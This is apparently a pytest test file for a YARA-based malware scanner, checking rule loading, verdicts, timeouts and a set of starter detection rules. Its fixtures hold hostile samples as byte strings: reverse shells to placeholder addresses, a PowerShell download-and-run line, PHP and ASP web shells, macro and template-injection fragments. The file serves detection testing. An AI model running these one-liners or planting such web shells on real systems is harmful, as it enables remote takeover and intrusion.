from __future__ import annotations

import os
import threading
import time

import pytest
from samples import EICAR, object_of

from engines.yara import Yara

GOOD = 'rule Good { meta: description = "d" author = "a" score = 90 strings: $a = "evil" condition: $a }\n'
HEURISTIC = 'rule Maybe : suspicious { strings: $a = "odd" condition: $a }\n'


@pytest.fixture
def make(tmp_path):
    """An engine with these rule files."""

    def build(files, **more):
        folder = tmp_path / "rules"
        for name, text in files.items():
            (folder / name).parent.mkdir(parents=True, exist_ok=True)
            (folder / name).write_text(text)
        return Yara(rules=[str(folder)], starter=False, cache=tmp_path / "cache", **more)

    return build


def test_verdict_with_the_rule_it_comes_from(make):
    verdict = make({"one.yar": GOOD}).scan(object_of(b"... evil ..."))
    assert (verdict.status, verdict.signature, verdict.signatures) == ("malicious", "Good", ("Good",))
    assert verdict.rule == {"name": "Good", "ruleset": "one.yar", "description": "d", "author": "a"}
    assert make({"one.yar": GOOD}).scan(object_of(b"fine")).status == "clean"


def test_heuristics_only_raise_a_hand(make):
    yara = make({"one.yar": GOOD + HEURISTIC})
    assert yara.scan(object_of(b"odd")).status == "suspicious"
    both = yara.scan(object_of(b"odd and evil"))
    assert (both.status, both.signature, both.signatures) == ("malicious", "Good", ("Good", "Maybe"))


@pytest.mark.parametrize(
    ("meta", "status"), [("score = 40", "suspicious"), ("score = 75", "malicious"), ('severity = "low"', "suspicious")]
)
def test_metadata_may_mark_a_heuristic(make, meta, status):
    yara = make({"one.yar": f'rule R {{ meta: {meta} strings: $a = "evil" condition: $a }}'})
    assert yara.scan(object_of(b"evil")).status == status


def test_equal_names_in_two_files_do_not_clash(make):
    yara = make({"one.yar": GOOD, "sub/two.yara": GOOD.replace("evil", "worse"), "notes.txt": "no rule"})
    assert yara.problems == []
    assert yara.scan(object_of(b"worse")).rule["ruleset"] == "two.yara"


@pytest.mark.parametrize("files", [{"bad.yar": "rule Bad {"}, {"notes.txt": "no rules here"}])
def test_without_a_usable_rule_it_says_so_and_is_never_clean(make, files):
    yara = make(files)
    assert yara.check()
    assert yara.scan(object_of(b"x")).status == "error"


def test_a_missing_path_is_named(tmp_path):
    yara = Yara(rules=[str(tmp_path / "nowhere")], cache=tmp_path / "cache")
    assert yara.problems == [f"{tmp_path / 'nowhere'}: no such file or folder"]
    assert yara.check() is None


@pytest.mark.parametrize(
    ("condition", "more"),
    [
        ('filename == "a.exe"', {}),
        ('extension == ".exe"', {}),
        ('filetype == "text/html"', {"mime_type": "text/html"}),
        ('protocol == "smtp"', {"protocol": "smtp"}),
    ],
)
def test_external_variables(make, condition, more):
    yara = make({"one.yar": f"rule R {{ condition: {condition} }}"})
    assert yara.scan(object_of(b"x", "a.exe", **more)).status == "malicious"
    assert yara.scan(object_of(b"x", "a.txt")).status == "clean"


@pytest.mark.parametrize("name", ["nul\0.exe", "lone \udcff surrogate.exe", "💥.exe", None])
def test_hostile_names_do_no_harm(make, name):
    assert make({"one.yar": GOOD}).scan(object_of(b"evil", name)).status == "malicious"


def test_objects_on_disk_are_matched_there(make):
    assert make({"one.yar": GOOD}).scan(object_of(b"x" * 10_000 + b"evil", on_disk=True)).status == "malicious"


def test_a_slow_rule_is_a_timeout(make):
    loop = "rule Slow { condition: for all i in (0..2000000000) : (uint8(i % 10) < 256) }"
    assert make({"one.yar": loop}, timeout=1.0).scan(object_of(b"0123456789ab")).status == "timeout"


def test_threads_share_the_rules(make):
    yara, verdicts = make({"one.yar": GOOD}), []
    threads = [threading.Thread(target=lambda: verdicts.append(yara.scan(object_of(b"evil" * 99)))) for _ in range(8)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(10)
    assert [verdict.status for verdict in verdicts] == ["malicious"] * 8


@pytest.mark.parametrize(
    ("payload", "name", "rule"),
    [
        (b"<% execute(request.form) %>", "a.asp", "Server_page_that_runs_what_it_is_sent"),
        (b'Runtime.getRuntime().exec( request.getParameter("c"))', "a.jsp", "Server_page_that_runs_what_it_is_sent"),
        (b"MZ" + bytes(99), "invoice\u202egpj.exe", "Executable_with_document_name"),
        (b"powershell -w hidden (x).DownloadFile('y')", "a.htm", "PowerShell_that_runs_a_download"),
        (b"ncat 192.0.2.1 4444 -e /bin/sh\n", "a.sh", "Shell_script_with_reverse_shell"),
        (
            b"\x7fELF\1\1\1" + bytes(9) + bytes(12) + (52).to_bytes(4, "little") + bytes(12) + b"\1\0" + bytes(6)
            + bytes(24) + b"\7\0\0\0",
            "a", "Program_of_one_writable_segment",
        ),
    ],
)  # fmt: skip
def test_starter_rules_know_other_shapes(starter, payload, name, rule):
    assert rule in starter.scan(object_of(payload, name)).signatures


@pytest.mark.parametrize("on_disk", [False, True])
def test_rules_for_programs_are_asked_about_programs_only(make, on_disk):
    gated = 'import "pe" rule P { strings: $a = "evil" condition: uint16(0) == 0x5A4D and not pe.is_pe and $a }'
    yara = make({"pe.yar": gated, "one.yar": GOOD.replace("evil", "worse")})
    assert yara.scan(object_of(b"MZ evil", on_disk=on_disk)).signature == "P"
    assert yara.scan(object_of(b"MZ worse", on_disk=on_disk)).signature == "Good"
    assert yara.scan(object_of(b"-- worse", on_disk=on_disk)).signature == "Good"
    assert yara.scan(object_of(b"-- evil", on_disk=on_disk)).status == "clean"
    assert make({"one.yar": gated}).scan(object_of(b"")).status == "clean"


def test_more_than_a_million_matches_of_a_string_do_no_harm(make):
    yara = make({"one.yar": 'rule Many { strings: $a = "ab" condition: #a > 3 }'})
    assert yara.scan(object_of(b"ab" * 1_100_000)).signature == "Many"


def test_the_age_of_the_rules_is_that_of_the_newest_file(make, tmp_path):
    make({"one.yar": GOOD, "two.yar": HEURISTIC})
    for name, days in (("one.yar", 3), ("two.yar", 2)):
        when = time.time() - days * 86_400
        os.utime(tmp_path / "rules" / name, (when, when))
    age = Yara(rules=[str(tmp_path / "rules")], starter=False, cache=tmp_path / "cache").database_age
    assert age == pytest.approx(2 * 86_400, abs=60)
    assert Yara(starter=False, cache=tmp_path / "cache").database_age is None


PE = b"MZ" + bytes(58) + (64).to_bytes(4, "little") + b"PE\0\0" + bytes(200)
ELF = b"\x7fELF\2\1\1" + bytes(9) + b"\2\0\x3e\0"
STARTER = {
    "EICAR_test_file": (EICAR, {}),
    "Executable_with_document_name": (PE, {"name": "invoice.pdf.exe"}),
    "Executable_named_as_other_type": (PE, {"name": "picture.jpg"}),
    "Encoded_PowerShell_command": (b'cmd /c powershell -nop -w hidden -enc "' + b"QUJD" * 30 + b'"', {"name": "a.bat"}),
    "Shortcut_that_starts_a_script_host": (
        bytes.fromhex("4c0000000114020000000000c000000000000046") + "PowerShell".encode("utf-16-le"), {"name": "a.lnk"}
    ),
    "Macro_that_runs_itself_and_a_shell": (
        bytes.fromhex("d0cf11e0a1b11ae1") + b"..Sub AutoOpen()..WScript.Shell..", {"name": "a.doc"}
    ),
    "Page_that_assembles_a_file": (
        b"<script>var d='TVqQ" + b"QUJD" * 1100 + b"';b=new Blob([atob(d)]);a.download='x'</script>", {"name": "a.htm"}
    ),
    "PHP_that_runs_what_it_is_sent": (b"<?php @eval($_POST['c']); ?>", {"name": "a.php"}),
    "Shell_script_with_reverse_shell": (b"#!/bin/sh\nbash -i >& /dev/tcp/203.0.113.5/4444 0>&1\n", {"name": "a.sh"}),
    "Java_archive_by_mail": (
        b"PK\3\4", {"name": "a.jar", "protocol": "smtp", "mime_type": "application/java-archive"}
    ),
    "Mailed_script_with_document_name": (b"var x", {"name": "invoice.pdf .js", "protocol": "smtp"}),
    "PowerShell_that_runs_a_download": (
        "iex (New-Object Net.WebClient).DownloadString('http://192.0.2.1/a')".encode("utf-16-le"), {"name": "a.ps1"}
    ),
    "Script_that_fetches_writes_and_starts": (
        b"CreateObject('WScript.Shell') CreateObject('ADODB.Stream') CreateObject('MSXML2.XMLHTTP')", {"name": "a.vbs"}
    ),
    "RTF_that_updates_its_object_by_itself": (b"{\\rtf1{\\object\\objupdate{\\*\\objdata 0105}}}", {"name": "a.doc"}),
    "Document_with_remote_template": (
        b'<Relationship Type="http://schemas.example/relationships/attachedTemplate" Target="http://192.0.2.1/t.dotm"/>',
        {"name": "word/_rels/settings.xml.rels"},
    ),
    "Notebook_with_a_script_inside": (
        bytes.fromhex("e4525c7b8cd8a74daeb15378d02996d3") + bytes(64)
        + bytes.fromhex("e716e3bd65261145a4c48d4d0b7a9eac") + b"<script>WScript.Quit</script>", {"name": "a.one"},
    ),
    "Server_page_that_runs_what_it_is_sent": (b'<%eval request("c")%>', {"name": "a.asp"}),
    "Program_with_reverse_shell": (
        ELF + bytes(64) + b"/bin/bash -i >& /dev/tcp/203.0.113.5/4444 0>&1", {"name": "a"}
    ),
    "Program_of_one_writable_segment": (
        ELF + bytes(12) + (64).to_bytes(8, "little") + bytes(16) + b"\1\0" + bytes(6)
        + b"\1\0\0\0\7\0\0\0" + bytes(200),
        {"name": "a"},
    ),
}  # fmt: skip


@pytest.fixture(scope="module")
def starter(tmp_path_factory):
    return Yara(cache=tmp_path_factory.mktemp("cache"))


@pytest.mark.parametrize("rule", STARTER)
def test_starter_rules_find_what_they_are_for(starter, rule):
    payload, more = STARTER[rule]
    assert rule in starter.scan(object_of(payload, more.pop("name", "sample.bin"), **more)).signatures


def test_every_starter_rule_has_a_sample(starter):
    import re

    from engines.yara import STARTER as FOLDER

    rules = {
        name for file in FOLDER.glob("*.yar") for name in re.findall(r"^rule (\w+)", file.read_text(), re.MULTILINE)
    }
    assert rules == set(STARTER)


@pytest.mark.parametrize(
    "payload",
    [
        b"plain text about powershell and bash",
        PE,
        b"<script>new Blob([1])</script>",
        b"<?php echo $_GET['a']; ?>",
        ELF + bytes(9000),
    ],
)
def test_starter_rules_leave_ordinary_things_alone(starter, payload):
    assert starter.scan(object_of(payload, "readme.bin")).status == "clean"
